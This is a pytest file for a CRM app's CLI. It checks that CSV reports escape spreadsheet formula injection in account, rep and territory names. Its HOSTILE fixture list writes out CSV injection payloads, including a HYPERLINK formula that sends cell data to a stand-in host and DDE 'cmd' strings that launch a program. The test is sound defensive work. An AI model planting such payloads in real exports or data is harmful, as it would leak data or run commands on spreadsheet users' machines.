"""CSV reports never hand a spreadsheet a formula (issue 13, item 11: CSV injection).

Names come from CRM imports and managers. Each report the CLI writes (coverage, overdue,
windshield) is produced with hostile names in every text column; every cell that starts with a
formula character must come out prefixed with ``'`` while numeric columns stay plain numbers.
"""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import update
from typer.testing import CliRunner

from backend.cli.report_cmd import app
from backend.db.models import Account, Territory, User
from backend.runtime import Runtime
from backend.services.report_csv import FORMULA_PREFIXES, neutralise, write_csv
from backend.settings import Settings
from tests.backend.test_analytics import FROM, TO, seed_coverage
from tests.conftest import World, seed_world

HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMERIC = {
    "coverage": (
        "accounts",
        "covered",
        "share",
        "potential_total",
        "potential_covered",
        "potential_share",
        "visits",
    ),
    "overdue": ("account_id", "cadence_days", "overdue_days"),
    "windshield": (
        "rep_id",
        "planned_days",
        "planned_drive_s",
        "planned_visit_s",
        "planned_ratio",
        "actual_drive_s",
        "actual_visit_s",
        "actual_ratio",
    ),
}


def _hostile(n: int) -> str:
    return f"{HOSTILE[n % len(HOSTILE)]} #{n}"


@pytest.fixture
def hostile(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> World:
    """The analytics world with a formula in every account, rep and territory name."""

    async def build() -> World:
        runtime = Runtime.create(settings)
        try:
            world = await seed_world(runtime)
            await seed_coverage(runtime, world)
            async with runtime.sessionmaker() as session, session.begin():
                account_ids = [i for ids in world.accounts.values() for i in ids]
                for n, account_id in enumerate(account_ids):
                    await session.execute(
                        update(Account).where(Account.id == account_id).values(name=_hostile(n))
                    )
                for n, user_id in enumerate(world.users.values()):
                    await session.execute(
                        update(User).where(User.id == user_id).values(full_name=_hostile(n))
                    )
                await session.execute(update(Territory).values(name="=1+2 territory"))
            return world
        finally:
            await runtime.close()

    world = asyncio.run(build())
    monkeypatch.setenv("FIELDREP_DATABASE_URL", settings.effective_database_url)
    return world


def _report(*args: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(app, [*args, "--team", "Team A", "--from", FROM, "--to", TO])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


@pytest.mark.parametrize(
    ("kind", "args", "text_columns"),
    [
        ("coverage", ("coverage",), ("label",)),
        ("overdue", ("coverage", "--overdue"), ("name", "territory")),
        ("windshield", ("windshield",), ("rep_name",)),
    ],
)
def test_every_report_neutralises_formulas_and_keeps_numbers(
    hostile: World, kind: str, args: tuple[str, ...], text_columns: tuple[str, ...]
) -> None:
    """No cell of the report starts with a formula character unless it is a plain number, the
    hostile names are all there behind a quote, and numeric columns still parse as numbers."""
    rows = _report(*args)
    assert rows, f"{kind}: no rows"
    quoted = 0
    for row in rows:
        for cell in row.values():
            if cell.startswith(FORMULA_PREFIXES):
                float(cell)  # only a plain number may start with "-"
        for column in text_columns:
            if row[column].startswith("'"):
                quoted += 1
                assert row[column][1:].startswith(FORMULA_PREFIXES), row[column]
        for column in NUMERIC[kind]:
            if row[column]:
                float(row[column])
    assert quoted > 0, f"{kind}: no hostile name reached the report"


def test_negative_numbers_stay_numbers_and_text_that_looks_like_one_is_harmless() -> None:
    """``-12.5`` is a number in a spreadsheet, not a formula; ``-1+2`` is a formula."""
    out = io.StringIO()
    write_csv(out, [["-12.5", "-3", "-1+2", "+1", "=1", "@x", "\tx", "\rx", "a=b", ""]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
        "-12.5",
        "-3",
        "'-1+2",
        "'+1",
        "'=1",
        "'@x",
        "'\tx",
        "'\rx",
        "a=b",
        "",
    ]
    assert neutralise("Bäckerei Wolf") == "Bäckerei Wolf"


def test_report_written_to_a_file_is_neutralised_too(hostile: World, tmp_path: Path) -> None:
    """``--out`` goes through the same writer as standard output."""
    out = tmp_path / "overdue.csv"
    result = CliRunner().invoke(
        app,
        [
            "coverage",
            "--overdue",
            "--team",
            "Team A",
            "--from",
            FROM,
            "--to",
            TO,
            "--out",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    names = [r["name"] for r in csv.DictReader(out.open(encoding="utf-8", newline=""))]
    assert names and all(n.startswith("'") for n in names), names


def test_a_team_name_with_markup_is_printed_as_text(hostile: World) -> None:
    """``[/]`` in the team asked for crashed rich ("closing tag '[/]' has nothing to close")."""
    result = CliRunner().invoke(app, ["windshield", "--team", "[/]x", "--from", FROM, "--to", TO])
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "'[/]x' not found" in result.output
